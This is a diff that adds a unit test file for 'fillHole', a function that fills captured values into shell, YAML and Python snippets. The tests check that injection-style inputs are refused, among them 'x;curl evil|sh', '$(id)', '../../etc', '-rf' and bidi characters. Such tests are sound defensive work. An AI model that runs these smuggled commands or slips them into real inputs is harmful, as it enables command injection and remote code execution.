@@ -1,0 +1,64 @@
+import { describe, expect, it } from 'vitest';
+import type { CaptureType } from '../finding.ts';
+import { fillHole } from './fill.ts';
+
+const fill = (value: string, type: CaptureType, language: 'shell' | 'yaml' | 'python' = 'shell', quoted = false) =>
+  fillHole({ it: { value, type } }, 'it', { quoted, language });
+
+describe('fillHole', () => {
+  it('fills values that mean nothing to any language', () => {
+    expect(fill('openai/gpt-4o', 'model')).toEqual({ text: 'openai/gpt-4o', filled: true });
+    expect(fill('host.docker.internal', 'host')).toEqual({ text: 'host.docker.internal', filled: true });
+  });
+
+  it('quotes a bare value where the language wants it, and leaves numbers bare', () => {
+    expect(fill('yes', 'model', 'yaml').text).toBe('"yes"');
+    expect(fill('4000', 'port', 'yaml').text).toBe('4000');
+    expect(fill('gpt-4o', 'model', 'python').text).toBe('"gpt-4o"');
+    expect(fill('gpt-4o', 'model', 'python', true).text).toBe('gpt-4o');
+  });
+
+  it.each([
+    'x;curl evil|sh',
+    'x`id`',
+    '$(id)',
+    "a' b",
+    'a"b',
+    'a\nb',
+    'a b',
+    '--upgrade',
+    '-rf',
+    'a\\b',
+    'x#y',
+    '{{x}}',
+    '../../etc',
+    'a\u202eb',
+    'a\u200bb',
+    '<b>',
+    '~root',
+    '*',
+    'x&y',
+    '%PATH%',
+  ])('keeps the placeholder for %j', (value) => {
+    for (const type of ['model', 'host', 'word', 'path', 'url'] as const)
+      for (const language of ['shell', 'yaml', 'python'] as const) expect(fill(value, type, language), `${type} ${language}`).toEqual({ text: '<it>', filled: false });
+  });
+
+  it('never fills free text or lists into code', () => {
+    expect(fill('plain words', 'text').filled).toBe(false);
+    expect(fill("['a']", 'list').filled).toBe(false);
+  });
+
+  it('refuses credentials in a URL', () => {
+    expect(fill('http://user:pass@host/x', 'url').filled).toBe(false);
+  });
+
+  it('shows a clear placeholder for what was not captured', () => {
+    expect(fillHole({}, 'model_group', { quoted: false, language: null })).toEqual({ text: '<model-group>', filled: false });
+    expect(fillHole({}, 'constructor', { quoted: false, language: 'shell' })).toEqual({ text: '<constructor>', filled: false });
+  });
+
+  it('shows free text in prose without control and bidi characters', () => {
+    expect(fillHole({ it: { value: 'a\u202e\u0000b', type: 'text' } }, 'it', { quoted: false, language: null }).text).toBe('a b');
+  });
+});
